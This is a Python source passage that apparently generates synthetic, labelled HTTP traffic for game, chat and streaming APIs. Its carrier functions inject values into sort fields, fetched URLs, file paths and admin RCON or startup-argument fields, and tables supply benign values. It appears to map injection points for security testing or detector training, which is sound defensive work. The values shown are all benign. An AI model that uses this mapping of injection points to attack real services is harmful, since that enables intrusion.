BOARDS = ["global", "weekly", "season-12", "speedrun-any", "arena-2v2", "kills", "daily-challenge"]


def _game_get(kind, cat, app, uri, web_p=0.5, host=None, extra=None):
    host = host or pick(H_GAME)
    if chance(web_p):
        h = web(host, accept="application/json", auth=bearer() if chance(0.6) else None, origin=False, extra=extra)
    else:
        h = native(host, auth=bearer(), extra=extra)
    emit(kind, cat, app, "GET", uri, h)


def c_lb_sort(kind, cat, v):
    _game_get(kind, cat, "leaderboard", "/api/v1/leaderboards/%s?season=%s&sort=%s&limit=%d" % (
        pick(BOARDS), pick(["2026-s1", "2026-s2", "current"]), qb(v), pick([10, 25, 50, 100])))


def c_lb_region(kind, cat, v):
    _game_get(kind, cat, "leaderboard", "/api/v1/leaderboards/global?region=%s&page=%d&platform=%s" % (
        qb(v), R.randint(1, 9), pick(["pc", "xbox", "ps5", "switch", "all"])))


def c_lb_filter(kind, cat, v):
    _game_get(kind, cat, "leaderboard", "/api/leaderboard?board=%s&filter=%s&fields=name,score,rank" % (pick(BOARDS), qb(v)))


def c_player_path(kind, cat, v):
    _game_get(kind, cat, "profile", "/api/v1/players/%s/stats?mode=%s" % (q(v, safe="'()*!,:@"), pick(["ranked", "casual", "all"])))


def c_match_history(kind, cat, v):
    _game_get(kind, cat, "matches", "/api/matches?player_id=%s&mode=%s&before=%d&limit=20" % (digits(8), qb(v), ts()))


def c_inventory_filter(kind, cat, v):
    _game_get(kind, cat, "inventory", "/api/inventory?category=%s&rarity=%s&equipped=false" % (
        qb(v), pick(["common", "rare", "epic", "legendary"])))


def c_tournament_path(kind, cat, v):
    _game_get(kind, cat, "tournament", "/api/tournaments/%s/bracket" % q(v, safe="'()*!,:@"))


def c_nakama_lb(kind, cat, v):
    _game_get(kind, cat, "nakama", "/v2/leaderboard/%s?limit=20&owner_ids=%s&cursor=" % (pick(BOARDS), qb(v)), web_p=0.0)


def c_playfab_lb(kind, cat, v):
    host = "%s.playfabapi.example.com" % hexs(5).upper()
    h = native(host, ua=pick(GAME_UAS[7:8] + GAME_UAS[:2]), extra=[["X-Authorization", hexs(16).upper() + "--" + b64(rbytes(24))],
                                                               ["X-PlayFabSDK", "UnitySDK-2.183.240315"]])
    emit(kind, cat, "playfab", "POST", "/Client/GetLeaderboard?sdk=UnitySDK-2.183.240315", h,
         J({"StatisticName": v, "StartPosition": R.choice([0, 0, 10, 100]), "MaxResultsCount": pick([10, 25, 100])}), "application/json")


def c_modio(kind, cat, v):
    _game_get(kind, cat, "mods", "/v1/games/%s/mods?_sort=%s&tags-in=%s&_limit=20&_offset=%d" % (
        digits(4), qb(v), pick(["Maps", "Weapons,Skins", "Gameplay", "UI"]), R.choice([0, 20, 40])), host=pick(["mods.example.com"] + H_GAME))


def c_mm_search(kind, cat, v):
    host = pick(H_MM)
    h = web(host, accept="*/*", extra=[["X-Requested-With", "XMLHttpRequest"], ["X-CSRF-Token", mm_id()]],
            cookie_extra=["MMAUTHTOKEN=" + mm_id()])
    emit(kind, cat, "mattermost", "POST", "/api/v4/teams/%s/posts/search" % mm_id(), h,
         J({"terms": v, "is_or_search": False, "time_zone_offset": pick([0, 3600, -18000, 32400]), "page": 0, "per_page": 20,
            "include_deleted_channels": False}), "application/json")


def c_matrix_search(kind, cat, v):
    host = pick(H_MATRIX)
    h = native(host, ua=pick(MOBILE_UAS[4:7] + DESKTOP_UAS[2:3]), auth="Bearer syt_" + alnum(40))
    body = {"search_categories": {"room_events": {"search_term": v, "filter": {"limit": 10, "rooms": [room_id(host)]},
                                                  "order_by": "recent", "event_context": {"before_limit": 1, "after_limit": 1}}}}
    emit(kind, cat, "matrix", "POST", "/_matrix/client/v3/search", h, J(body), "application/json")


def c_supabase_filter(kind, cat, v):
    host = pick(H_SUPA)
    uri = "/rest/v1/scores?select=player_id,score,profiles(username,avatar_url)&season=eq.%s&order=score.desc&limit=50" % qb(v)
    h = web(host, accept="application/json", origin="app.example.com", cookie=False, auth="Bearer " + jwt(),
            extra=[["apikey", jwt()], ["X-Client-Info", "supabase-js-web/2.45.4"], ["Accept-Profile", "public"]])
    emit(kind, cat, "supabase", "GET", uri, h)


def c_firebase_query(kind, cat, v):
    host = pick(H_FB)
    uri = "/leaderboard/%s.json?orderBy=%s&equalTo=%s&limitToFirst=10" % (pick(BOARDS), q('"region"'), q(J(v)))
    h = web(host, accept="*/*", origin="app.example.com", cookie=False)
    emit(kind, cat, "firebase", "GET", uri, h)


def c_gql_var(kind, cat, v):
    host = pick(H_GAME)
    body = {"operationName": "Leaderboard", "variables": {"board": pick(BOARDS), "orderBy": v, "first": 50},
            "query": "query Leaderboard($board: String!, $orderBy: String, $first: Int) { leaderboard(board: $board, orderBy: $orderBy, first: $first) { rank player { name } score } }"}
    h = web(host, accept="application/json", auth=bearer())
    emit(kind, cat, "graphql", "POST", "/graphql", h, J(body), "application/json")


def c_socketio_lb(kind, cat, v):
    host = pick(H_GAME)
    sid = sid_engineio()
    pkt = "42%d" % R.randint(1, 30) + J(["leaderboard:get", {"board": pick(BOARDS), "sort": v, "limit": 25}])
    h = web(host, accept="*/*")
    emit(kind, cat, "socketio", "POST", "/socket.io/?EIO=4&transport=polling&t=%s&sid=%s" % (yeast(), sid), h, pkt,
         "text/plain;charset=UTF-8")


def c_signalr_lb(kind, cat, v):
    host = pick(H_GAME)
    body = J({"type": 1, "invocationId": str(R.randint(0, 50)), "target": "GetLeaderboard", "arguments": [v, 0, 50]}) + "\x1e"
    h = web(host, accept="*/*", extra=[["X-Requested-With", "XMLHttpRequest"],
                                       ["X-SignalR-User-Agent", "Microsoft SignalR/7.0 (7.0.14; Unknown OS; Browser; Unknown Runtime Version)"]])
    emit(kind, cat, "signalr", "POST", "/hubs/game?id=%s" % alnum(22, B64U), h, body, "text/plain;charset=UTF-8")


def c_connect_get(kind, cat, v):
    host = pick(H_GAME)
    msg = J({"season": v, "pageSize": 50})
    uri = "/game.v1.LeaderboardService/List?connect=v1&encoding=json&message=%s" % q(msg)
    h = web(host, accept="application/json", origin=False, auth=bearer(), extra=[["Connect-Protocol-Version", "1"]])
    emit(kind, cat, "connect", "GET", uri, h)


def c_rc_history(kind, cat, v):
    host = pick(H_RC)
    h = native(host, ua=MOBILE_UAS[8], extra=[["X-Auth-Token", alnum(43, B64U)], ["X-User-Id", rc_id()]])
    emit(kind, cat, "rocketchat", "GET", "/api/v1/channels.history?roomId=%s&count=50&offset=0" % qb(v), h)


def c_discord_members(kind, cat, v):
    host = pick(["chat.example.com", "app.guilds.example.net"])
    h = native(host, ua=DESKTOP_UAS[0], accept="*/*", auth=discord_token(), extra=[["X-Super-Properties", super_props()]])
    emit(kind, cat, "discord", "GET", "/api/v10/guilds/%s/members/search?query=%s&limit=10" % (snowflake(), qb(v)), h)


def c_cookie_region(kind, cat, v):
    host = pick(H_GAME)
    h = web(host, accept="application/json", origin=False, cookie_extra=["region=" + q(v, safe="'()*!")])
    emit(kind, cat, "lobby", "GET", "/api/v1/lobbies?mode=%s&open=true" % pick(["ranked_2v2", "casual_5v5", "ffa"]), h)


FILTER_CARRIERS = [c_lb_sort, c_lb_sort, c_lb_region, c_lb_filter, c_player_path, c_match_history, c_inventory_filter,
                   c_tournament_path, c_nakama_lb, c_playfab_lb, c_modio, c_mm_search, c_matrix_search, c_supabase_filter,
                   c_firebase_query, c_gql_var, c_socketio_lb, c_signalr_lb, c_connect_get, c_rc_history,
                   c_discord_members, c_cookie_region]


# ------------------------------------------------------------ fetched URLs
def c_unfurl(kind, cat, url):
    host = pick(H_CHAT)
    h = web(host, accept="application/json", origin=False, auth=bearer() if chance(0.5) else None)
    emit(kind, cat, "unfurl", "GET", "/api/unfurl?url=%s" % q(url), h)


def c_matrix_preview(kind, cat, url):
    host = pick(H_MATRIX)
    h = native(host, ua=pick(MOBILE_UAS[4:7] + DESKTOP_UAS[2:3]), auth="Bearer syt_" + alnum(40))
    emit(kind, cat, "matrix", "GET", "/_matrix/media/v3/preview_url?url=%s&ts=%d" % (q(url), ts_ms()), h)


def c_avatar_url(kind, cat, url):
    host = pick(H_GAME + H_CHAT)
    _profile_put(kind, cat, "profile", host, "PUT", "/api/v1/players/me/avatar", {"avatarUrl": url, "crop": {"x": 0, "y": 0, "size": 256}})


def c_rc_avatar(kind, cat, url):
    host = pick(H_RC)
    h = native(host, ua=MOBILE_UAS[8], extra=[["X-Auth-Token", alnum(43, B64U)], ["X-User-Id", rc_id()]])
    emit(kind, cat, "rocketchat", "POST", "/api/v1/users.setAvatar", h, J({"avatarUrl": url}), "application/json")


def c_webhook_create(kind, cat, url):
    host = pick(H_GAME + H_CHAT)
    _profile_put(kind, cat, "webhooks", host, "POST", "/api/v1/guilds/%s/webhooks" % snowflake(),
                 {"name": pick(["match alerts", "ci", "tournament feed", "moderation log"]), "url": url,
                  "events": pick([["match.finished"], ["message.created", "member.joined"], ["stream.online"]]), "active": True})


def c_push_sub(kind, cat, url):
    host = pick(H_CHAT + H_RT + H_GAME)
    body = {"endpoint": url, "expirationTime": None, "keys": {"p256dh": p256dh(), "auth": alnum(22, B64U)}}
    if chance(0.5):
        body = {"subscription": body, "topics": ["mentions", "dm"], "device": pick(["chrome-win", "firefox-linux", "safari-mac"])}
    h = web(host, accept="application/json", auth=bearer() if chance(0.6) else None)
    emit(kind, cat, "webpush", "POST", "/api/push/subscriptions", h, J(body), "application/json")


def c_oembed(kind, cat, url):
    host = pick(H_FORUM + H_CHAT)
    h = web(host, accept="application/json", origin=False)
    emit(kind, cat, "unfurl", "GET", "/oembed?url=%s&format=json&maxwidth=480" % q(url), h)


def c_ingest_pull(kind, cat, url):
    host = pick(H_LIVE)
    _profile_put(kind, cat, "ingest", host, "POST", "/api/streams/%s/ingest" % lower(12),
                 {"type": "pull", "source_url": url, "transcode": pick(["passthrough", "abr-720p", "abr-1080p"]), "record": chance(0.5)})


def c_livekit_ingress(kind, cat, url):
    host = pick(H_LIVE)
    h = native(host, ua=pick(["livekit-server-sdk-go/2.1.1", "livekit-server-sdk-js/2.6.0", "livekit-server-sdk-python/0.17.3"]),
               auth="Bearer " + jwt({"video": {"ingressAdmin": True}, "iss": "API" + alnum(9), "exp": ts()}))
    emit(kind, cat, "livekit", "POST", "/twirp/livekit.Ingress/CreateIngress", h,
         J({"input_type": "URL_INPUT", "name": pick(["restream", "guest-feed", "vod-replay"]), "room_name": "room-" + lower(6),
            "participant_identity": "ingress-" + lower(4), "url": url}), "application/json")


def c_discourse_onebox(kind, cat, url):
    host = pick(H_FORUM)
    h = web(host, accept="*/*", origin=False, extra=[["X-CSRF-Token", alnum(86, B64U)], ["X-Requested-With", "XMLHttpRequest"]])
    emit(kind, cat, "discourse", "GET", "/onebox?url=%s&refresh=false&category_id=%d&topic_id=%s" % (q(url), R.randint(1, 30), digits(4)), h)


def c_image_proxy(kind, cat, url):
    host = pick(H_CHAT + H_FORUM)
    h = web(host, accept="image/avif,image/webp,image/apng,image/svg+xml,image/*,*/*;q=0.8", origin=False, mode="no-cors", dest="image")
    emit(kind, cat, "imageproxy", "GET", "/_image?url=%s&w=%d&q=75" % (q(url), pick([64, 128, 256, 640])), h)


def c_mm_hook(kind, cat, url):
    host = pick(H_MM)
    h = native(host, ua=pick(SERVER_UAS))
    emit(kind, cat, "mattermost", "POST", "/hooks/%s" % mm_id(), h,
         J({"text": pick(["Build #%s passed :white_check_mark:" % digits(4), "Deploy to eu-west finished", "Nightly backup ok"]),
            "username": pick(["ci", "deploy-bot", "backup"]), "icon_url": url}), "application/json")


def c_socketio_preview(kind, cat, url):
    host = pick(H_CHAT)
    h = web(host, accept="*/*")
    emit(kind, cat, "socketio", "POST", "/socket.io/?EIO=4&transport=polling&t=%s&sid=%s" % (yeast(), sid_engineio()), h,
         "42%d" % R.randint(1, 30) + J(["link:preview", {"url": url}]), "text/plain;charset=UTF-8")


def c_eventsub(kind, cat, url):
    host = pick(H_LIVE)
    h = native(host, ua=pick(SERVER_UAS), auth="Bearer " + lower(30), extra=[["Client-Id", lower(30)]])
    emit(kind, cat, "twitch", "POST", "/helix/eventsub/subscriptions", h,
         J({"type": pick(["stream.online", "channel.follow", "channel.subscribe"]), "version": "1",
            "condition": {"broadcaster_user_id": digits(9)},
            "transport": {"method": "webhook", "callback": url, "secret": alnum(24)}}), "application/json")


def c_mod_import(kind, cat, url):
    host = pick(H_GAME + ["mods.example.com"])
    _profile_put(kind, cat, "mods", host, "POST", "/api/mods/import", {"source": url, "gameId": digits(4), "visibility": "private"})


URL_CARRIERS = [c_unfurl, c_unfurl, c_matrix_preview, c_matrix_preview, c_avatar_url, c_rc_avatar, c_webhook_create,
                c_push_sub, c_push_sub, c_oembed, c_ingest_pull, c_livekit_ingress, c_discourse_onebox, c_image_proxy,
                c_mm_hook, c_socketio_preview, c_eventsub, c_mod_import]


# ---------------------------------------------------- file names and paths
# URL-ready values: placed in the URI as they are (they carry their own encodings)
def c_mod_dl(kind, cat, v):
    _game_get(kind, cat, "mods", "/api/mods/download?file=%s&v=%d" % (v, R.randint(1, 40)), host=pick(["mods.example.com"] + H_GAME))


def c_replay_path(kind, cat, v):
    host = pick(H_GAME)
    h = native(host, accept="application/octet-stream", auth=bearer(), extra=[["Range", "bytes=0-"]] if chance(0.3) else None)
    emit(kind, cat, "replays", "GET", "/replays/%s" % v, h)


def c_hls_seg(kind, cat, v):
    host = pick(H_CDN)
    ua, _, _ = browser()
    h = [["Host", host], ["User-Agent", ua], ["Accept", "*/*"], ["Origin", "https://" + pick(H_LIVE)],
         ["Referer", "https://%s/" % pick(H_LIVE)], ["Accept-Encoding", "identity"], ["Accept-Language", pick(LANGS)]]
    emit(kind, cat, "hls", "GET", "/hls/live/%s/%s" % (lower(10), v), h)


def c_asset_path(kind, cat, v):
    host = pick(H_GAME + H_CDN)
    h = native(host, accept="*/*")
    emit(kind, cat, "assets", "GET", "/assets/%s" % v, h)


def c_skin_q(kind, cat, v):
    _game_get(kind, cat, "assets", "/api/skins/render?skin=%s&size=%d" % (v, pick([64, 128, 256])))


def c_matrix_media(kind, cat, v):
    host = pick(H_MATRIX)
    h = native(host, accept="*/*", ua=pick(MOBILE_UAS[4:7]), auth="Bearer syt_" + alnum(40))
    emit(kind, cat, "matrix", "GET", "/_matrix/client/v1/media/download/%s/%s" % (host, v), h)


def c_log_tail(kind, cat, v):
    host = pick(H_ADMIN)
    h = web(host, accept="application/json", origin=False)
    emit(kind, cat, "admin", "GET", "/admin/api/logs?file=%s&lines=%d" % (v, pick([100, 200, 500])), h)


def c_sound_q(kind, cat, v):
    host = pick(H_GAME + H_CHAT)
    h = web(host, accept="audio/webm,audio/ogg,audio/wav,audio/*;q=0.9,application/ogg;q=0.7,video/*;q=0.6,*/*;q=0.5",
            origin=False, mode="no-cors", dest="audio")
    emit(kind, cat, "assets", "GET", "/static/sounds?f=%s" % v, h)


def c_subtitle_q(kind, cat, v):
    host = pick(H_CDN + H_LIVE)
    h = web(host, accept="*/*", origin=False, cookie=False)
    emit(kind, cat, "vod", "GET", "/vod/%s/subtitles?track=%s" % (digits(6), v), h)


def c_map_thumb(kind, cat, v):
    _game_get(kind, cat, "maps", "/api/maps/thumbnail?name=%s" % v)


PATH_URL_CARRIERS = [c_mod_dl, c_mod_dl, c_replay_path, c_replay_path, c_hls_seg, c_hls_seg, c_asset_path, c_skin_q,
                     c_matrix_media, c_log_tail, c_sound_q, c_subtitle_q, c_map_thumb]


# plain values: encoded by the carrier as its format requires
def c_map_load(kind, cat, v):
    host = pick(H_ADMIN)
    _profile_put(kind, cat, "admin", host, "POST", "/api/servers/%s/maps/load" % lower(8), {"map": v, "mode": pick(["tdm", "ctf", "koth"])})


def c_transcode_input(kind, cat, v):
    host = pick(H_LIVE)
    _profile_put(kind, cat, "transcode", host, "POST", "/api/transcode/jobs",
                 {"input": v, "outputs": [{"preset": "hls-720p", "segment_seconds": 4}], "notify": False})


def c_replay_export(kind, cat, v):
    host = pick(H_GAME)
    h = web(host, accept="application/json")
    emit(kind, cat, "replays", "POST", "/api/replays/export", h, form([("match", digits(8)), ("path", v), ("format", "dem")]),
         "application/x-www-form-urlencoded")


def c_config_read(kind, cat, v):
    host = pick(H_ADMIN)
    _profile_put(kind, cat, "admin", host, "POST", "/api/admin/config/read", {"server": "eu-%d" % R.randint(1, 9), "file": v})


def c_socketio_asset(kind, cat, v):
    host = pick(H_GAME)
    h = web(host, accept="*/*")
    emit(kind, cat, "socketio", "POST", "/socket.io/?EIO=4&transport=polling&t=%s&sid=%s" % (yeast(), sid_engineio()), h,
         "42%d" % R.randint(1, 30) + J(["asset:get", {"path": v}]), "text/plain;charset=UTF-8")


def c_mod_upload_name(kind, cat, v):
    host = pick(["mods.example.com"] + H_GAME)
    b = boundary_browser()
    body = multipart([("name", pick(["Better Maps", "HD Textures", "Quality of Life"])), ("version", "1.%d.%d" % (R.randint(0, 9), R.randint(0, 9))),
                      ("file", zip_bytes(["mod.json", "textures/rock.dds"]), v, "application/zip")], b)
    ua, _, _ = browser()
    hs = [["Host", host], ["User-Agent", ua], ["Accept", "application/json"], ["Authorization", bearer()],
          ["Content-Type", "multipart/form-data; boundary=" + b], ["Origin", "https://" + host]]
    emit_raw(kind, cat, "mods", raw_request("POST", "/api/mods/upload", hs, body))


PATH_PLAIN_CARRIERS = [c_map_load, c_transcode_input, c_replay_export, c_config_read, c_socketio_asset, c_mod_upload_name]


# ------------------------------------------------ commands and parameters
def c_rcon(kind, cat, v):
    host = pick(H_ADMIN)
    h = web(host, accept="application/json", extra=[["X-CSRF-Token", alnum(40, B64U)]])
    emit(kind, cat, "rcon", "POST", "/api/admin/rcon", h, J({"server": "eu-%d" % R.randint(1, 9), "command": v}), "application/json")


def c_ptero(kind, cat, v):
    host = pick(H_ADMIN)
    h = web(host, accept="application/json", extra=[["X-Requested-With", "XMLHttpRequest"], ["X-XSRF-TOKEN", alnum(200, B64U)]])
    emit(kind, cat, "panel", "POST", "/api/client/servers/%s/command" % hexs(8), h, J({"command": v}), "application/json")


def c_netcheck(kind, cat, v):
    host = pick(H_ADMIN)
    h = web(host, accept="application/json", origin=False)
    emit(kind, cat, "admin", "GET", "/api/admin/netcheck?host=%s&count=4" % qb(v), h)


def c_transcode_preset(kind, cat, v):
    host = pick(H_LIVE)
    field = pick(["preset", "extra_args", "resolution", "audio_bitrate"])
    job = {"input": "s3://vod-ingest/%s/source.mp4" % uid(), "outputs": [{"container": "hls", "segment_seconds": 4}],
           "preset": "veryfast", "resolution": "1280x720", "audio_bitrate": "128k"}
    job[field] = v
    _profile_put(kind, cat, "transcode", host, "POST", "/api/transcode/jobs", job)


def c_watermark(kind, cat, v):
    host = pick(H_LIVE)
    _profile_put(kind, cat, "transcode", host, "POST", "/api/streams/%s/overlay" % lower(10),
                 {"watermark_text": v, "position": pick(["top-left", "bottom-right"]), "fontsize": pick([18, 24, 32])})


def c_thumb_at(kind, cat, v):
    host = pick(H_LIVE)
    h = web(host, accept="image/webp,*/*", origin=False)
    emit(kind, cat, "transcode", "GET", "/api/streams/%s/thumbnail?at=%s&w=320" % (lower(10), qb(v)), h)


def c_backup_name(kind, cat, v):
    host = pick(H_ADMIN)
    h = web(host, accept="text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8", mode="navigate", dest="document")
    emit(kind, cat, "admin", "POST", "/admin/backups", h, form([("name", v), ("include_worlds", "on"), ("_token", alnum(40))]),
         "application/x-www-form-urlencoded")


def c_server_start(kind, cat, v):
    host = pick(H_ADMIN)
    _profile_put(kind, cat, "panel", host, "POST", "/api/servers/%s/start" % lower(8),
                 {"startup_args": "-Xms1G -Xmx4G -jar paper.jar --nogui " + v, "eula": True})


def c_signalr_admin(kind, cat, v):
    host = pick(H_ADMIN)
    body = J({"type": 1, "invocationId": str(R.randint(0, 20)), "target": "RunConsoleCommand", "arguments": ["eu-%d" % R.randint(1, 9), v]}) + "\x1e"
    h = web(host, accept="*/*", extra=[["X-Requested-With", "XMLHttpRequest"]])
    emit(kind, cat, "signalr", "POST", "/hubs/console?id=%s" % alnum(22, B64U), h, body, "text/plain;charset=UTF-8")


CMD_CARRIERS = [c_rcon, c_rcon, c_ptero, c_ptero, c_netcheck, c_transcode_preset, c_transcode_preset, c_watermark,
                c_thumb_at, c_backup_name, c_server_start, c_signalr_admin]


# ---------------------------------------------------------------- templates
def c_notif_template(kind, cat, v):
    host = pick(H_ADMIN + H_CHAT)
    _profile_put(kind, cat, "notify", host, "PUT", "/api/admin/notifications/templates/%s" % pick(["level_up", "new_follower", "match_ready", "digest"]),
                 {"title": pick(["Level up!", "New follower", "Match ready", "Weekly digest"]), "body": v, "locale": pick(["en", "de", "ja", "pt-BR"])})


def c_alert_template(kind, cat, v):
    host = pick(H_LIVE)
    _profile_put(kind, cat, "overlay", host, "POST", "/api/overlays/alerts",
                 {"type": pick(["follow", "sub", "donation", "raid"]), "message_template": v, "duration_ms": pick([4000, 6000, 8000]),
                  "sound": pick(["chime.ogg", "airhorn.mp3", None])})


def c_welcome(kind, cat, v):
    host = pick(H_CHAT)
    _profile_put(kind, cat, "guilds", host, "PATCH", "/api/v1/guilds/%s/settings" % snowflake(), {"welcome_message": v, "welcome_channel_id": snowflake()})


def c_notif_preview(kind, cat, v):
    host = pick(H_ADMIN)
    h = web(host, accept="text/html, */*; q=0.01", extra=[["X-Requested-With", "XMLHttpRequest"]])
    emit(kind, cat, "notify", "POST", "/admin/notifications/preview", h,
         form([("template", v), ("sample_user", pick(NICKS)), ("channel", pick(["push", "email", "in-app"]))]),
         "application/x-www-form-urlencoded; charset=UTF-8")


def c_bot_command(kind, cat, v):
    host = pick(H_CHAT + H_LIVE)
    _profile_put(kind, cat, "bot", host, "POST", "/api/bot/commands",
                 {"trigger": pick(["!discord", "!rules", "!uptime", "!socials", "!welcome"]), "response": v, "cooldown_s": pick([5, 30, 60]),
                  "userlevel": pick(["everyone", "subscriber", "moderator"])})


def c_push_campaign(kind, cat, v):
    host = pick(H_ADMIN)
    _profile_put(kind, cat, "notify", host, "POST", "/api/push/campaigns",
                 {"title": v, "body": pick(["Double XP all weekend", "New season starts now", "Your clan needs you"]),
                  "segment": pick(["all", "lapsed_7d", "eu"]), "send_at": iso()})


TEMPLATE_CARRIERS = [c_notif_template, c_notif_template, c_alert_template, c_welcome, c_notif_preview, c_bot_command, c_push_campaign]


# =========================================================================
# benign values for the shared carriers
# =========================================================================
def v_sort():
    return pick(["score", "-score", "score.desc", "kills", "wins,-losses", "elo", "updated_at", "rank", "-mmr", "kd_ratio", "playtime"])


def v_region():
    return pick(["EU", "NA", "eu-west", "us-east", "ap-northeast", "sa-east", "OCE", "ME", "all"])


def v_lb_filter():
    return pick(["platform:pc", "country:DE", "friends_only", "level>=30", "mode=ranked,season=12", "clan:Knights of Ni", "score>1000", "tier:diamond|master"])


def v_player():
    return pick([digits(8), uid(), pick(NICKS), "Nova#2231", "steam:7656119%s" % digits(10), "xbl:%s" % digits(16)])


def v_mode():
    return pick(["ranked", "casual", "ranked_2v2", "coop", "arena", "ffa", "all"])


def v_category():
    return pick(["weapons", "skins", "emotes", "banners", "consumables", "mounts", "sprays"])


def v_tournament():
    return pick([digits(5), "spring-open-2026", "eu-qualifier-3", uid()])


def v_statistic():
    return pick(["HighScore", "WeeklyKills", "Season12_Elo", "SpeedrunAny%", "TotalWins", "DailyChallenge_2026-03-14"])


def v_modsort():
    return pick(["-popular", "-date_added", "name", "-rating", "downloads_total", "-date_updated"])


def v_search():
    return pick(["from:alice in:town-square \"deploy failed\"", "matchmaking timeout", "#release-notes", "on:2026-03-12 patch",
                 "\"select your loadout\"", "after:2026-02-01 before:2026-03-01 elo", "-in:random lag spikes", "Ö3 Ö-Ticket", "ラグ",
                 "rollback OR revert", "in:dev @bob crash"])


def v_season():
    return pick(["2026-s1", "12", "2026-s2", "winter-2026", "current"])


def v_orderby():
    return pick(["SCORE_DESC", "RANK_ASC", "score", "UPDATED_AT_DESC", "kills:desc"])


def v_roomid():
    return pick(["GENERAL", rc_id(), rc_id() + rc_id()])


def v_member_query():
    return pick(["ali", "Nova", "李", "dm", "mod", "O'N", "ren"])


BENIGN_FILTER = {c_lb_sort: v_sort, c_lb_region: v_region, c_lb_filter: v_lb_filter, c_player_path: v_player,
                 c_match_history: v_mode, c_inventory_filter: v_category, c_tournament_path: v_tournament,
                 c_nakama_lb: lambda: ",".join(uid() for _ in range(R.randint(1, 3))), c_playfab_lb: v_statistic,
                 c_modio: v_modsort, c_mm_search: v_search, c_matrix_search: v_search, c_supabase_filter: v_season,
                 c_firebase_query: v_region, c_gql_var: v_orderby, c_socketio_lb: v_sort, c_signalr_lb: v_statistic,
                 c_connect_get: v_season, c_rc_history: v_roomid, c_discord_members: v_member_query, c_cookie_region: v_region}


def v_avatar():
    return pick(["https://cdn.example.com/avatars/%s/%s.png" % (digits(8), hexs(16)),
                 "https://secure.gravatar.example.com/avatar/%s?s=256&d=identicon" % hexs(32),
                 "https://images.example.net/u/%s?size=512&format=webp" % lower(10),
                 "https://pbs.example.org/profile_images/%s/%s_400x400.jpg" % (digits(19), alnum(8))])


def v_webhook():
    return pick(["https://hooks.example.net/services/T0%s/B0%s/%s" % (alnum(8), alnum(8), alnum(24)),
                 "https://ci.example.com/api/webhooks/game-events", "https://alerts.example.org/ingest/%s" % uid(),
                 "https://bot.example.com/callback?guild=%s" % snowflake()])


def v_ingest():
    return pick(["rtmp://ingest.example.com/live/%s" % alnum(20), "srt://ingest.example.net:9000?streamid=%s&latency=200" % q("#!::r=live/" + lower(8)),
                 "https://media.example.org/live/%s/master.m3u8" % lower(8), "https://vod.example.com/%s/manifest.mpd" % uid(),
                 "rtmps://live-api-s.example.com:443/rtmp/FB-%s" % digits(15)])


BENIGN_URL = {c_unfurl: lambda: pick(LINKS), c_matrix_preview: lambda: pick(LINKS), c_avatar_url: v_avatar, c_rc_avatar: v_avatar,
              c_webhook_create: v_webhook, c_push_sub: lambda: pick(PUSH_ENDPOINTS)(), c_oembed: lambda: pick(LINKS[2:4] + LINKS[:1]),
              c_ingest_pull: v_ingest, c_livekit_ingress: v_ingest, c_discourse_onebox: lambda: pick(LINKS), c_image_proxy: v_avatar,
              c_mm_hook: v_avatar, c_socketio_preview: lambda: pick(LINKS), c_eventsub: v_webhook,
              c_mod_import: lambda: pick(["https://mods.example.com/files/%s/better-maps-1.2.zip" % digits(6),
                                          "https://git.example.org/modders/hd-textures/archive/refs/tags/v2.0.zip",
                                          "https://workshop.example.net/sharedfiles/filedetails/?id=%s" % digits(10)])}

BENIGN_PATH_URL = {
    c_mod_dl: lambda: pick(["better-maps-1.2.zip", "v1.4.2/hd_textures.pak", "quality-of-life%20v3.zip", "%s/%s.zip" % (digits(6), lower(8))]),
    c_replay_path: lambda: pick(["2026/03/12/match_%s.dem.bz2" % digits(6), "%s.replay" % uid(), "eu-1/%s/round-%02d.rec" % (digits(8), R.randint(1, 30))]),
    c_hls_seg: lambda: pick(["seg_%05d.ts" % R.randint(0, 99999), "1080p60/index.m3u8", "720p/seg-%d.m4s" % R.randint(1, 9999),
                             "index.m3u8?_HLS_msn=%d&_HLS_part=%d" % (R.randint(100, 9999), R.randint(0, 5)), "init.mp4",
                             "chunklist_w%s.m3u8" % digits(9), "audio_en/part-%d.0.mp4" % R.randint(1, 999)]),
    c_asset_path: lambda: pick(["textures/ui/icons/sword%20gold.png", "audio/music/main_theme.ogg", "bundles/StandaloneWindows64/characters_%s.bundle" % hexs(8),
                                "fonts/NotoSansJP-Regular.woff2", "maps/harbor/lightmap_0.exr", "i18n/pt-BR.json"]),
    c_skin_q: lambda: pick(["steve_classic", "dragon-knight_v2", "%s" % hexs(32), "summer%202026"]),
    c_matrix_media: lambda: alnum(24, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz") + pick(["", "?allow_redirect=true"]),
    c_log_tail: lambda: pick(["matchmaker.log", "server-eu-1.log", "chat-gateway.log.1", "latest.log"]),
    c_sound_q: lambda: pick(["notify/ping.ogg", "ui/click.wav", "voice/announcer_en/round_start.mp3"]),
    c_subtitle_q: lambda: pick(["en", "pt-BR", "ja.vtt", "es-419", "de-DE%20(CC)"]),
    c_map_thumb: lambda: pick(["de_dust2", "Harbor%20(Night)", "citadel_v3", "ctf_2fort", "%E6%B1%9F%E6%88%B8"]),
}
BENIGN_PATH_PLAIN = {
    c_map_load: lambda: pick(["harbor_night", "foundry", "workshop/3070244462/aim_map", "ctf_2fort", "koth_viaduct"]),
    c_transcode_input: lambda: pick(["s3://vod-ingest/%s/source.mp4" % uid(), "https://media.example.org/uploads/%s.mov" % lower(12), "gs://clips-raw/%s.mkv" % hexs(16)]),
    c_replay_export: lambda: pick(["exports/2026-03/match_%s.dem" % digits(6), "highlights/%s" % lower(8), "clips/round-12"]),
    c_config_read: lambda: pick(["server.properties", "cfg/gamemode_competitive.cfg", "plugins/Essentials/config.yml", "Game.ini", "bukkit.yml"]),
    c_socketio_asset: lambda: pick(["ui/hud/minimap.png", "sounds/ping.ogg", "maps/harbor/preview.webp", "emotes/wave.gif"]),
    c_mod_upload_name: lambda: pick(["better-maps-1.2.zip", "HD Textures (4K).zip", "qol_mod_v3.pak", "Ñandú skins.zip", "マップパック.zip"]),
}


def v_netcheck():
    return pick(["eu-1.game.example.com", "203.0.113.10", "relay.example.net", "2001:db8::10", "us-east-2.game.example.com"])


BENIGN_CMD = {
    c_rcon: lambda: pick(RCON_OK), c_ptero: lambda: pick(RCON_OK), c_signalr_admin: lambda: pick(RCON_OK),
    c_netcheck: v_netcheck,
    c_transcode_preset: lambda: pick(["veryfast", "-tune zerolatency -g 60 -keyint_min 60", "1920x1080", "160k", "-profile:v high -level 4.1",
                                      "-x264-params keyint=120:scenecut=0", "854x480"]),
